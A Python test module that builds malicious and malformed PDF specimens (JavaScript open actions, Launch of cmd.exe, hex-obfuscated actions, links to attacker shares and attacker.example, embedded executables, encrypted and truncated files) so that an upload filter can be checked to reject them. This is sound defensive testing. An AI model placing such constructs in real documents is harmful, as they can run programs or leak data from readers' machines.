"""PDFs that act, carry or hide something, cannot be read by everybody, or are not whole."""

from functools import partial

from pikepdf import Array, Dictionary, Name, ObjectStreamMode, Pdf

from tests.uploads.corpus.specimens import MOST_PAGES, Maker, Specimen
from tests.uploads.corpus.writing import (
    action,
    changed,
    encrypted,
    raw,
    stream,
    with_annotation,
    with_attachments,
    with_root,
)
from tests.uploads.samples import PDF, document
from uploads.rejections import Rejection

_UNC = "\\\\attacker\\share\\a.pdf"


def _opens(kind: str, **entries: object) -> Maker:
    return lambda: with_root(OpenAction=action(kind, **entries))


def _clicked(kind: str, **entries: object) -> Maker:
    return lambda: with_annotation("Link", A=action(kind, **entries))


def _script_in_an_event() -> bytes:
    def change(pdf: Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=action("JavaScript", JS="app.alert(1)"))

    return changed(change, object_stream_mode=ObjectStreamMode.generate)


def _instantiated() -> bytes:
    """A script that runs when a model in three dimensions is shown."""
    model = stream(b"U3D\x00", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R")
    shown = b"/Annots[<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 4 0 R>>]"
    return raw(model, stream(b"host.app.alert(1)"), page=shown)


def _hidden_action() -> bytes:
    """One that its catalogue names by a name in hexadecimal, and that has no type."""
    return raw(root=b"/Open#41ction<</S/#4Caunch/F(cmd.exe)>>")


def _next_of_next() -> bytes:
    last = Dictionary(S=Name.Launch, F="cmd.exe")
    page = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([last]))
    return with_annotation("Link", A=action("GoTo", D="a", Next=page))


def _endless_chain() -> bytes:
    return raw(b"<</S/Named/N/NextPage/Next 4 0 R>>", root=b"/OpenAction 4 0 R")


def _address_of_a_share_in_two_bytes() -> bytes:
    return with_annotation("Link", A=Dictionary(S=Name.URI, URI="\\\\主机\\share"))


def _base_address() -> bytes:
    return with_root(URI=Dictionary(Base="file://attacker/share/"))


def _scripts() -> bytes:
    tree = Dictionary(Names=Array(["a", action("JavaScript", JS="app.alert(1)")]))
    return with_root(Names=Dictionary(JavaScript=Dictionary(Kids=Array([tree]))))


def _script_that_nothing_names() -> bytes:
    return raw(b"<</Type/Action/S/JavaScript/JS(app.alert(1))>>")


def _dynamic_form() -> bytes:
    form = b"/AcroForm<</Fields[]/XFA[(template)4 0 R]>>"
    return raw(
        stream(b"<template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'/>"), root=form
    )


def _portfolio() -> bytes:
    return with_root(Collection=Dictionary(View=Name.D))


def _pages_elsewhere() -> bytes:
    reference = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(other.pdf)/Page 0>>"
    return raw(stream(b"", reference))


def _content_elsewhere() -> bytes:
    return raw(stream(b"", b"/F(\\\\\\\\attacker\\\\share\\\\a)"), page=b"/Contents 4 0 R")


def _carried_elsewhere() -> bytes:
    return raw(b"<</Type/Filespec/FS/URL/F(https://attacker.example/a)>>")


def _cut(part: float) -> bytes:
    content = document(3, object_stream_mode=ObjectStreamMode.disable)
    return content[: int(len(content) * part)]


def _cut_in_an_addition() -> bytes:
    return document(2) + b"7 0 obj\n<</Type/Annot/Subtype/Stamp\nendobj\n8 0 obj\n<</Le"


def _hole_in_the_middle() -> bytes:
    """As a download leaves it that made room first and then lost a part."""
    content = document(40, object_stream_mode=ObjectStreamMode.disable)
    third = len(content) // 3
    return content[:third] + bytes(third) + content[2 * third :]


def _pdf(name: str, make: Maker, refused: Rejection) -> Specimen:
    return Specimen(name, make, PDF, refused)


_ACTIVE = Rejection.pdf_active
SPECIMENS = (
    _pdf("opens-script", _opens("JavaScript", JS="app.alert(1)"), _ACTIVE),
    _pdf("opens-program", _opens("Launch", F="cmd.exe"), _ACTIVE),
    _pdf("opens-file-of-a-share", _opens("GoToR", F=_UNC, D="a"), _ACTIVE),
    _pdf("opens-address", _opens("URI", URI="https://attacker.example"), _ACTIVE),
    _pdf("opens-print-menu", _opens("Named", N=Name.Print), _ACTIVE),
    _pdf(
        "click-that-quits",
        _clicked("Named", N=Name.Quit),
        _ACTIVE,
    ),
    _pdf("empties-fields-by-itself", _opens("ResetForm"), _ACTIVE),
    _pdf("hides-by-itself", _opens("Hide", T="a"), _ACTIVE),
    _pdf("sends-form", _clicked("SubmitForm", F="https://attacker.example"), _ACTIVE),
    _pdf("imports-data", _clicked("ImportData", F=_UNC), _ACTIVE),
    _pdf("click-opens-file", _clicked("GoToR", F="other.pdf", D="a"), _ACTIVE),
    _pdf("click-opens-embedded", _clicked("GoToE", D="a"), _ACTIVE),
    _pdf("click-plays", _clicked("Rendition", OP=0), _ACTIVE),
    _pdf("click-of-a-kind-unknown", _clicked("DoAsILike"), _ACTIVE),
    _pdf("click-without-kind", lambda: raw(b"<</Type/Action/F(cmd.exe)>>"), _ACTIVE),
    _pdf("click-on-a-share", _clicked("URI", URI="file://attacker/share/a.pdf"), _ACTIVE),
    _pdf("click-on-a-share-by-slashes", _clicked("URI", URI="//attacker/share"), _ACTIVE),
    _pdf("click-on-a-share-in-two-bytes", _address_of_a_share_in_two_bytes, _ACTIVE),
    _pdf("click-on-a-script", _clicked("URI", URI="javascript:alert(1)"), _ACTIVE),
    _pdf("base-address-of-a-share", _base_address, _ACTIVE),
    _pdf("script-in-an-event", _script_in_an_event, _ACTIVE),
    _pdf("scripts-in-a-tree", _scripts, _ACTIVE),
    _pdf("script-that-nothing-names", _script_that_nothing_names, _ACTIVE),
    _pdf("action-in-hexadecimal", _hidden_action, _ACTIVE),
    _pdf("program-at-the-end-of-a-chain", _next_of_next, _ACTIVE),
    _pdf("chain-without-an-end", _endless_chain, _ACTIVE),
    _pdf("model-with-a-script", _instantiated, _ACTIVE),
    _pdf("film-elsewhere", lambda: with_annotation("Movie", Movie=Dictionary(F=_UNC)), _ACTIVE),
    _pdf("sound", lambda: with_annotation("Sound"), _ACTIVE),
    _pdf("screen", lambda: with_annotation("Screen"), _ACTIVE),
    _pdf("rich-media", lambda: with_annotation("RichMedia"), _ACTIVE),
    _pdf("annotation-of-a-kind-unknown", lambda: with_annotation("Runs"), _ACTIVE),
    _pdf("content-elsewhere", _content_elsewhere, Rejection.pdf_external),
    _pdf("pages-elsewhere", _pages_elsewhere, Rejection.pdf_external),
    _pdf("carried-elsewhere", _carried_elsewhere, Rejection.pdf_external),
    _pdf("carries-program", partial(with_attachments, {"a.exe": b"MZ"}), Rejection.pdf_attachments),
    _pdf(
        "carries-program-as-data",
        partial(with_attachments, {"a.xml": b"MZ\x90"}),
        Rejection.pdf_attachments,
    ),
    _pdf(
        "carries-page-as-data",
        partial(with_attachments, {"a.xml": b"<html><script>1</script></html>"}),
        Rejection.pdf_attachments,
    ),
    _pdf("carries-by-a-pin", lambda: with_annotation("FileAttachment"), Rejection.pdf_attachments),
    _pdf("portfolio", _portfolio, Rejection.pdf_attachments),
    _pdf("dynamic-form", _dynamic_form, Rejection.pdf_dynamic_form),
    _pdf("password-to-open", lambda: encrypted(owner="o", user="u"), Rejection.pdf_protected),
    _pdf(
        "password-of-old",
        lambda: encrypted(owner="o", user="u", R=3, metadata=False, aes=False),
        Rejection.pdf_protected,
    ),
    _pdf("cut-in-half", partial(_cut, 0.5), Rejection.file_incomplete),
    _pdf("cut-near-the-end", partial(_cut, 0.7), Rejection.file_incomplete),
    _pdf("cut-in-an-addition", _cut_in_an_addition, Rejection.file_incomplete),
    _pdf("hole-in-the-middle", _hole_in_the_middle, Rejection.file_incomplete),
    _pdf("too-many-pages", partial(document, MOST_PAGES + 1), Rejection.too_many_pages),
    _pdf("no-page", partial(document, 0), Rejection.pdf_unreadable),
    _pdf("mark-alone", lambda: b"%PDF-1.7\n" + bytes(100), Rejection.pdf_unreadable),
)
